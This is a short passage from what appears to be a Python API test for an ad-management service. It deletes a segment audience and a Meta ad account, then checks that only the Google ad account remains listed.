    ok(stack, "DELETE", f"/segments/{fans['id']}/audiences/{on_meta['id']}")
    assert ok(stack, "DELETE", f"/ad-accounts/{meta_account['id']}")["id"] == meta_account["id"]
    assert [a["id"] for a in ok(stack, "GET", "/ad-accounts")["accounts"]] == [google_account["id"]]
